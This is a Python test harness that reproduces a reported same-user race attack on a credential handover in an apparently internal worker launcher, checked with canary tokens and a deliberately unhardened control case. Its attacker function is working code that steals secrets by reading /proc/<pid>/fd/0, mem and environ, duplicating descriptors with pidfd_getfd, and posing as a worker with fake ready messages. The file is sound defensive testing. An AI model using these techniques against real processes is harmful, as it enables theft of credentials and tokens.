"""The attack of issue 17, run for real: a process of the workers' own user races every worker
from the moment it is spawned, for its credentials.

Run by test_handover.py as an unprivileged user (setpriv), so that the attacker has exactly the
rights of that user: ``python handover_race.py`` reads {"token", "count", "concurrency", "base",
"plugin_path", "control"} as JSON on stdin, starts ``count`` real workers through the unisolated launcher
(``concurrency`` at once), each exporting one canary recording into its own folder, and for each
worker pid tells an attacker process, which until the worker ends keeps trying to

- open ``/proc/<pid>/fd/0`` and read it (the reported attack),
- duplicate the worker's fd 0 and every other descriptor with ``pidfd_getfd`` and read them,
- send the launcher a fake ready message with a socket of its own, hoping to be handed the
  credentials, and read that socket (three times per worker: a same-user process can always
  deny service, by flooding that channel or simply killing the worker; theft is what is tested),
- read ``/proc/<pid>/mem`` and ``environ``.

With ``control`` it starts, instead, processes that take the credential on a plain pipe with no
hardening: the attacker must find it there (the proof that it would see one). It prints one JSON
document: every worker's exit code and what the attacker obtained.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

READY = b"portshift-ready 1\n"
SYS_PIDFD_GETFD = 438  # x86_64 and aarch64 share the generic number


def attacker() -> None:
    """Reads the needle (the canary's prefix), then worker pids, one per line, on stdin; prints a
    JSON summary at EOF. Reads are non-destructive (MSG_PEEK, pread), so that what it finds is
    what a patient thief would find, and the worker is not merely disturbed."""
    libc = ctypes.CDLL(None, use_errno=True)
    needle = sys.stdin.readline().strip().encode()
    stats = {"opened_fd0": 0, "duplicated": 0, "fake_requests": 0, "mem_opened": 0, "mem_scans": 0, "bytes_seen": 0, "found": 0}
    lock = threading.Lock()

    def seen(data: bytes) -> None:
        with lock:
            stats["bytes_seen"] += len(data)
            stats["found"] += needle in data

    def peek(fd: int) -> None:
        dup = os.dup(fd)
        try:
            s = socket.socket(fileno=dup)
        except OSError:
            os.close(dup)  # (holding a pipe's write end open would only stall the worker: no theft)
            try:
                seen(os.pread(fd, 65536, 0))
            except OSError:
                pass
            return
        try:
            s.setblocking(False)
            seen(s.recv(65536, socket.MSG_PEEK))
        except OSError:
            pass
        finally:
            s.close()

    def scan_mem(mem: int, regions: list[tuple[int, int]]) -> None:
        with lock:
            stats["mem_scans"] += 1
        for start, end in regions:
            for at in range(start, end, 1 << 20):
                try:
                    seen(os.pread(mem, min(1 << 20, end - at), at))
                except OSError:
                    break

    def hammer(pid: int) -> None:
        pidfd = mem = None
        regions: list[tuple[int, int]] = []
        own: list[socket.socket] = []
        last_scan = 0.0
        while os.path.exists(f"/proc/{pid}"):
            try:
                fd = os.open(f"/proc/{pid}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
            except OSError:
                pass
            else:
                stats["opened_fd0"] += 1
                peek(fd)
                os.close(fd)
            if mem is None:
                try:
                    mem = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
                    with open(f"/proc/{pid}/maps") as f:
                        for line in f:
                            parts = line.split()
                            if parts[1].startswith("rw") and (len(parts) < 6 or parts[5] in ("[heap]", "[stack]")):
                                lo, hi = (int(x, 16) for x in parts[0].split("-"))
                                regions.append((lo, min(hi, lo + (64 << 20))))
                    stats["mem_opened"] += 1
                except OSError:
                    mem = None
            if mem is not None and time.monotonic() - last_scan > 0.2:
                scan_mem(mem, regions)  # the descriptor opened early stays readable: the crux
                last_scan = time.monotonic()
            if pidfd is None:
                try:
                    pidfd = os.pidfd_open(pid)
                except OSError:
                    return
            for target in range(0, 8):
                got = libc.syscall(SYS_PIDFD_GETFD, pidfd, target, 0)
                if got < 0:
                    continue
                stats["duplicated"] += 1
                peek(got)
                if target == 0 and len(own) < 3:  # the worker's channel: pose as the worker (a few times: theft, not a flood)
                    try:
                        s = socket.socket(fileno=os.dup(got))
                        mine, theirs = socket.socketpair()
                        socket.send_fds(s, [READY], [theirs.fileno()])
                        theirs.close()
                        s.close()
                        stats["fake_requests"] += 1
                        mine.setblocking(False)
                        own.append(mine)
                    except OSError:
                        pass
                os.close(got)
            for m in own:
                try:
                    seen(m.recv(65536, socket.MSG_PEEK))
                except OSError:
                    pass
        for fd in (pidfd, mem):
            if fd is not None:
                os.close(fd)

    threads = []
    for line in sys.stdin:
        t = threading.Thread(target=hammer, args=(int(line),), daemon=True)
        t.start()
        threads.append(t)
    for t in threads:
        t.join(60)
    print(json.dumps(stats), flush=True)


def driver() -> None:
    from portshift_server.launcher import JobSpec, UnisolatedLauncher

    cfg = json.loads(sys.stdin.read())
    base, token = Path(cfg["base"]), cfg["token"]
    os.environ["PYTHONPATH"] = cfg["plugin_path"]
    os.environ["PORTSHIFT_LOAD_PLUGINS"] = "portshift-canary-test"
    att = subprocess.Popen(
        [sys.executable, __file__, "attacker"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, bufsize=1
    )
    assert att.stdin is not None and att.stdout is not None
    att.stdin.write(token[:16] + "\n")
    launcher = UnisolatedLauncher()
    tell = threading.Lock()
    failures: dict[int, list[str]] = {}

    def one(i: int) -> int:
        work = base / f"w{i}"
        work.mkdir(mode=0o700)
        (work / "job.toml").write_text(
            f'[job]\ntransfers = 1\n[source]\ntype = "canary"\ncount = 1\nmedia_size = 2000\n'
            f'[sink]\ntype = "local"\npath = "{base / f"out{i}"}"\n'
        )
        lines: list[str] = []
        spec = JobSpec(f"race{i:04d}", work, work / "job.toml", work / "state.db", on_output=lambda _s, line: lines.append(line))
        handle = launcher.start(spec, bytearray(json.dumps({"source": {"token": token}}).encode()))
        with tell:
            att.stdin.write(f"{handle.pid}\n")  # the moment it is spawned
            att.stdin.flush()
        rc = handle.wait(120)
        if rc != 0:
            failures[i] = lines[-5:]
        return -999 if rc is None else rc

    def naive(i: int) -> int:
        """The control: a process that takes a credential on a pipe without any hardening."""
        proc = subprocess.Popen(
            [sys.executable, "-c", "import sys, time; held = sys.stdin.readline(); time.sleep(1.5)"], stdin=subprocess.PIPE
        )
        assert proc.stdin is not None
        with tell:
            att.stdin.write(f"{proc.pid}\n")
            att.stdin.flush()
        time.sleep(0.3)
        proc.stdin.write(token.encode() + b"\n")
        proc.stdin.close()
        return proc.wait(30)

    t0 = time.monotonic()
    with ThreadPoolExecutor(cfg["concurrency"]) as pool:
        codes = list(pool.map(naive if cfg.get("control") else one, range(cfg["count"])))
    att.stdin.close()
    seen = json.loads(att.stdout.read())
    att.wait(30)
    manifests = sorted(str(p) for p in base.glob("out*/*/portshift-manifest.txt"))
    print(
        json.dumps(
            {"codes": codes, "failures": failures, "attacker": seen, "manifests": manifests, "seconds": time.monotonic() - t0}
        )
    )


if __name__ == "__main__":
    if sys.argv[1:] == ["attacker"]:
        attacker()
    else:
        import logging

        logging.basicConfig(level=logging.WARNING, stream=sys.stderr, format="%(name)s %(message)s")
        driver()
